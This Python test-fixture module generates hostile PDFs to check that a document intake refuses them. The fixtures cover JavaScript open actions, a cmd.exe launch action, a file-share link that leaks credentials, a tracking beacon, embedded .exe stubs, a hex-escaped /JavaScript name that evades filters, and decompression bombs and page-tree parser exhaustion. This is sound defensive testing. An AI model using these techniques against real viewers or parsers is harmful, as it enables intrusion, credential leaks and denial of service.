"""Hostile PDFs for the intake's tests: files a viewer would run something from (JavaScript,
launch and link actions, embedded files, XFA forms), and small files that would exhaust a parser
(a decompression bomb, many streams that inflate, an absurd page tree). Each starts from a real
scan (``bench/scans.py``) so that, apart from what makes it hostile, it is a letter the intake
accepts; ``seed`` gives every test bytes of its own (duplicate detection must not interfere).
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import cast

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from bench.scans import make_scan

MIB = 1024 * 1024


def _writer(seed: int, pages: int = 1) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(make_scan(pages, with_text=True, seed=seed))))


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries: str) -> DictionaryObject:
    """An action of ``kind`` (``/JavaScript``, ``/URI``...) with text entries (``JS="..."``)."""
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = TextStringObject(value)
    return action


def _link(writer: PdfWriter, action: DictionaryObject) -> PdfWriter:
    """A link annotation on page 1 whose click runs ``action``."""
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([NumberObject(n) for n in (72, 72, 200, 90)]),
            _name("/A"): action,
        }
    )
    page = writer.pages[0]
    annotations = page.get("/Annots") or ArrayObject()
    annotations.append(writer._add_object(link))
    page[_name("/Annots")] = annotations
    return writer


# ---------------------------------------------------------------- active content
def javascript_on_open(seed: int) -> bytes:
    writer = _writer(seed)
    writer._root_object[_name("/OpenAction")] = _action("/JavaScript", JS="app.alert('hai')")
    return _bytes(writer)


def javascript_in_names(seed: int) -> bytes:
    """Document-level JavaScript (the /Names /JavaScript tree), as Acrobat's forms carry it."""
    writer = _writer(seed)
    script = writer._add_object(_action("/JavaScript", JS="this.print({bUI: false});"))
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("cetak"), script])})
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})
    return _bytes(writer)


def javascript_on_page_open(seed: int) -> bytes:
    """A page's additional action (/AA /O): runs when the page is shown."""
    writer = _writer(seed)
    writer.pages[0][_name("/AA")] = DictionaryObject(
        {_name("/O"): _action("/JavaScript", JS="app.launchURL('http://x.invalid')")}
    )
    return _bytes(writer)


def launch_action(seed: int) -> bytes:
    return _bytes(_link(_writer(seed), _action("/Launch", F="C:\\Windows\\System32\\cmd.exe")))


def link_to_a_network_share(seed: int) -> bytes:
    """A clicked link to ``file://``: opens a share (and hands it the user's credentials)."""
    return _bytes(_link(_writer(seed), _action("/URI", URI="file://10.0.0.9/share/surat.exe")))


def link_opened_with_the_document(seed: int) -> bytes:
    """A web address fetched by itself when the file is opened (a tracking beacon)."""
    writer = _writer(seed)
    writer._root_object[_name("/OpenAction")] = _action("/URI", URI="https://x.invalid/seen")
    return _bytes(writer)


def link_to_a_web_page(seed: int) -> bytes:
    """A clicked link to a web site, as Word writes for an address in the letterhead: accepted."""
    return _bytes(_link(_writer(seed), _action("/URI", URI="https://luwutimurkab.go.id/")))


def opens_at_page_one(seed: int) -> bytes:
    """/OpenAction as a destination (Word's 'open at page 1, fit'): moves inside the file only."""
    writer = _writer(seed)
    page = writer.pages[0].indirect_reference
    writer._root_object[_name("/OpenAction")] = ArrayObject([page, _name("/Fit")])
    return _bytes(writer)


def embedded_file(seed: int) -> bytes:
    writer = _writer(seed)
    writer.add_attachment("lampiran.exe", b"MZ\x90\x00" + bytes(64))
    return _bytes(writer)


def file_attachment_annotation(seed: int) -> bytes:
    writer = _writer(seed)
    stream = StreamObject()
    stream._data = b"MZ\x90\x00"
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = DictionaryObject(
        {
            _name("/Type"): _name("/Filespec"),
            _name("/F"): TextStringObject("faktur.exe"),
            _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(stream)}),
        }
    )
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/FileAttachment"),
            _name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 30, 30)]),
            _name("/FS"): spec,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


def xfa_form(seed: int) -> bytes:
    writer = _writer(seed)
    xfa = StreamObject()
    xfa._data = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(xfa)}
    )
    return _bytes(writer)


def javascript_with_an_escaped_name(seed: int) -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` to a viewer: a name written with #-escapes, by hand
    (pypdf would write it plainly). The script loses two characters in the same object, so that
    every offset in the cross-reference table stays right."""
    plain = javascript_on_open(seed)
    script = b"(app\\056alert\\050\\047hai\\047\\051)"  # app.alert('hai'), as pypdf writes it
    assert plain.count(b"/S /JavaScript") == 1 and plain.count(script) == 1
    shorter = b"(app\\056alert\\050\\047h\\047\\051)"
    return plain.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(script, shorter)


ACTIVE: dict[str, Callable[[int], bytes]] = {
    "javascript_on_open": javascript_on_open,
    "javascript_in_names": javascript_in_names,
    "javascript_on_page_open": javascript_on_page_open,
    "javascript_with_an_escaped_name": javascript_with_an_escaped_name,
    "launch_action": launch_action,
    "link_to_a_network_share": link_to_a_network_share,
    "link_opened_with_the_document": link_opened_with_the_document,
    "embedded_file": embedded_file,
    "file_attachment_annotation": file_attachment_annotation,
    "xfa_form": xfa_form,
}
"""Refused as ``active_content``."""

HARMLESS: dict[str, Callable[[int], bytes]] = {
    "link_to_a_web_page": link_to_a_web_page,
    "opens_at_page_one": opens_at_page_one,
}
"""What born-digital letters commonly carry, and is accepted."""


# ---------------------------------------------------------------- too complex
def _inflating_stream(size: int, salt: int) -> StreamObject:
    """A content stream of ``size`` blanks (no operators: a viewer shows nothing), deflated to
    about a thousandth of that; ``salt`` keeps the bytes of two streams apart."""
    stream = StreamObject()
    compressor = zlib.compressobj(9)
    chunk = b" " * MIB
    parts = [compressor.compress(f"% {salt}\n".encode())]
    parts += [compressor.compress(chunk) for _ in range(size // MIB)]
    parts.append(compressor.flush())
    stream._data = b"".join(parts)
    stream[_name("/Filter")] = _name("/FlateDecode")
    return stream


def decompression_bomb(seed: int, *, inflates_to: int = 512 * MIB) -> bytes:
    """Page 1's content stream inflates to ``inflates_to`` bytes; the file is about 1/1000 that."""
    writer = _writer(seed)
    page = writer.pages[0]
    page[_name("/Contents")] = writer._add_object(_inflating_stream(inflates_to, seed))
    return _bytes(writer)


def many_inflating_pages(seed: int, *, pages: int = 24, each: int = 24 * MIB) -> bytes:
    """``pages`` pages whose content streams each inflate to ``each`` bytes: no stream alone is
    extreme, together they are (24 x 24 MiB = 576 MiB by default, from a file of about 600 KB)."""
    writer = _writer(seed)
    for _ in range(pages - 1):
        writer.add_blank_page(595, 842)
    for n, page in enumerate(writer.pages):
        page[_name("/Contents")] = writer._add_object(_inflating_stream(each, seed * 1000 + n))
    return _bytes(writer)


def absurd_page_tree(seed: int, *, fan_out: int = 1000, levels: int = 3) -> bytes:
    """A page tree claiming ``fan_out ** levels`` pages (a thousand million by default) in a file
    of a few kilobytes: one page, referenced by every leaf of a tree whose nodes repeat a single
    child ``fan_out`` times."""
    writer = _writer(seed)
    page_ref = writer.pages[0].indirect_reference
    child, count = page_ref, 1
    for _ in range(levels):
        count *= fan_out
        node = DictionaryObject(
            {
                _name("/Type"): _name("/Pages"),
                _name("/Kids"): ArrayObject([child] * fan_out),
                _name("/Count"): NumberObject(count),
            }
        )
        child = writer._add_object(node)
    root_pages = cast(DictionaryObject, writer._root_object["/Pages"].get_object())
    root_pages[_name("/Kids")] = ArrayObject([child])
    root_pages[_name("/Count")] = NumberObject(count)
    return _bytes(writer)


def lying_page_count(seed: int, *, pages: int = 5000) -> bytes:
    """A flat page tree of ``pages`` references to one page that declares /Count 1."""
    writer = _writer(seed)
    page_ref = writer.pages[0].indirect_reference
    root_pages = cast(DictionaryObject, writer._root_object["/Pages"].get_object())
    root_pages[_name("/Kids")] = ArrayObject([page_ref] * pages)
    root_pages[_name("/Count")] = NumberObject(1)
    return _bytes(writer)


def slow_pages(seed: int, *, pages: int = 40, tokens: int = 90_000) -> bytes:
    """``pages`` pages, each a content stream of ``tokens`` path operands and operators (just
    under the tokens pypdf parses of one stream): most of a second each to parse, a few
    kilobytes each in the file."""
    writer = _writer(seed)
    resources = writer.pages[0]["/Resources"]  # pypdf reads no text off a page without any
    for _ in range(pages - 1):
        writer.add_blank_page(595, 842)[_name("/Resources")] = resources
    for n, page in enumerate(writer.pages):
        stream = StreamObject()
        stream._data = zlib.compress(b"%d 0 m\n" % n + b"1 0 l\n" * (tokens // 3), 9)
        stream[_name("/Filter")] = _name("/FlateDecode")
        page[_name("/Contents")] = writer._add_object(stream)
    return _bytes(writer)
